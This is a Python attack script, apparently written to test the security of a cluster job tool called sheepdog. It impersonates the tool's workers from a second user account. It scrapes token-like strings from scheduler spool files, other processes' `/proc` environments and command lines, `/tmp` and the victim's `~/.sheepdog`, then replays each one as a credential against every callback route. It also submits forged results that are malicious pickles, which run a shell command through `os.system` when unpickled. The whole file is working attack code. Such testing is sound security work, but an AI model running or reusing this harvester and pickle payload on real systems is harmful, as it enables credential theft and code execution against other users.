"""Another user of the cluster, trying to act as sheepdog's workers.

Run as an unprivileged second account while a request's tasks run:

    python3 attacker.py REQUEST_ID MARKER [URL ...]

It reads everything that account can read of what the scheduler and the
machine keep about running jobs (GridEngine's spooled job scripts and job
environments, ``qstat -j '*'``, other processes' command lines and
environments, the temporary directory, the victim's ``~/.sheepdog``), takes
every token-like string it finds as a credential, and tries each on every
callback route of the request: as a Basic password, as a bearer token, and as
a sheepdog signing key. Its forged results are pickles that would create
MARKER if the caller ever unpickled them. It prints one JSON line: what it
read, how many attempts it made and which were accepted.

Standard library only (plus sheepdog's ``protocol.py`` copied beside it), so
that it runs with the system Python of an account that cannot read the
project's virtualenv.
"""

import base64
import glob
import http.client
import json
import os
import pickle
import re
import ssl
import subprocess
import time
import sys
import urllib.parse

import protocol

#: A whole run of 16 to 200 such characters, as a key or a password is: not a slice of a
#: longer run, such as the job file's compiled modules in base64 (150 KB of chaff, which
#: spent the attack's budget before it came to the key).
TOKEN = re.compile(rb"(?<![A-Za-z0-9_\-+/=])[A-Za-z0-9_\-+/=]{16,200}(?![A-Za-z0-9_\-+/=])")
URL = re.compile(rb"https?://[A-Za-z0-9.\-]+:\d+")
SOURCES = [
    "/var/spool/gridengine/execd/*/job_scripts/*",
    "/var/spool/gridengine/execd/*/active_jobs/*/*",
    "/home/*/.sheepdog/*",
    "/proc/[0-9]*/cmdline",
    "/proc/[0-9]*/environ",
    "/tmp/*", "/tmp/*/*", "/tmp/*/*/*",
]


class Forged:
    """Runs a command in whoever unpickles it."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"id > {self.marker}",))


#: Bounds on the attack, so that a machine with many long-running processes (and so
#: many tokens in /proc) cannot make it run for hours: what it left out is reported.
MAX_FILES = 5000
MAX_BYTES = 64 << 20
MAX_ATTEMPTS = 20000
BUDGET_SECONDS = float(os.environ.get("SHEEPDOG_ATTACK_SECONDS", "150"))


def harvest():
    """(tokens, urls, paths read, files left unread) from what this account can read.

    Tokens come in the order of their sources: the scheduler's own first, so that
    the bounds never leave out what a job shows.
    """
    try:
        texts = [subprocess.run(["qstat", "-j", "*"], capture_output=True, timeout=30).stdout]
        read = ["qstat -j *"]
    except (OSError, subprocess.SubprocessError):
        texts, read = [], []
    budget, unread = MAX_BYTES, 0
    for pattern in SOURCES:
        for path in glob.glob(pattern):
            if len(read) >= MAX_FILES or budget <= 0:
                unread += 1
                continue
            try:
                with open(path, "rb") as handle:
                    texts.append(handle.read(min(1 << 20, budget)))
                budget -= len(texts[-1])
                read.append(path)
            except OSError:
                pass
    tokens, urls = {}, set()
    for text in texts:
        tokens.update((token, None) for token in TOKEN.findall(text) if _looks_random(token))
        urls.update(match.decode() for match in URL.findall(text))
    return list(tokens), sorted(urls), read, unread


def _looks_random(token):
    """Letters and digits mixed, as in a key or a password; not a word or an identifier."""
    return (re.search(rb"[0-9]", token) and re.search(rb"[a-z]", token)
            and re.search(rb"[A-Z]", token))


def routes(request_id, marker):
    """(method, path, body) of every callback route, with forged reports."""
    prefix = f"/requests/{request_id}"
    poison = pickle.dumps(Forged(marker))
    frames = b"".join(protocol.pack_frames([(1, protocol.RESULT, poison)]))
    return [
        ("GET", f"{prefix}/function", None),
        ("POST", f"{prefix}/workers/1.1/pull/1/1/1", b""),
        ("POST", f"{prefix}/workers/1.1/heartbeat", b""),
        ("POST", f"{prefix}/workers/1.1/killing", b""),
        ("POST", f"{prefix}/workers/1.1/lost/1", b"forged loss"),
        ("POST", f"{prefix}/tasks/1/result", poison),
        ("POST", f"{prefix}/tasks/1/error", b"forged error"),
        ("POST", f"{prefix}/results", frames),
    ]


def credentials(token, method, path, body):
    """Every way the token might be taken as a credential for this request."""
    text = token.decode("ascii", "replace")
    yield {"Authorization": "Basic " + base64.b64encode(f"sheepdog:{text}".encode()).decode()}
    yield {"Authorization": f"Bearer {text}"}
    yield {"Authorization": text}
    yield protocol.auth_headers(token, method, path, body)


def attempt(url, method, path, body, headers):
    parts = urllib.parse.urlsplit(url)
    if parts.scheme == "https":
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
        connection = http.client.HTTPSConnection(parts.hostname, parts.port, timeout=5,
                                                 context=context)
    else:
        connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=5)
    try:
        connection.request(method, path, body=body, headers=headers)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__
    finally:
        connection.close()


def main():
    request_id, marker, *given_urls = sys.argv[1:]
    deadline = time.monotonic() + BUDGET_SECONDS
    tokens, urls, read, unread = harvest()
    urls = sorted(set(urls) | set(given_urls))
    statuses, accepted, tried = {}, [], set()
    for url in urls:
        if not isinstance(attempt(url, "GET", "/", None, {}), int):
            statuses["unreachable " + url] = 1  # a stale address: nothing listens there
            continue
        for token in tokens:
            if sum(statuses.values()) >= MAX_ATTEMPTS or time.monotonic() > deadline:
                break
            tried.add(token)
            for method, path, body in routes(request_id, marker):
                for headers in credentials(token, method, path, body):
                    status = attempt(url, method, path, body, headers)
                    statuses[str(status)] = statuses.get(str(status), 0) + 1
                    if isinstance(status, int) and status < 300:
                        accepted.append([url, method, path, token.decode("ascii", "replace")])
    print(json.dumps({"read": read, "tokens": len(tokens), "urls": urls,
                      "statuses": statuses, "accepted": accepted,
                      "skipped": {"files": unread, "tokens": len(tokens) - len(tried)}}))


if __name__ == "__main__":
    main()
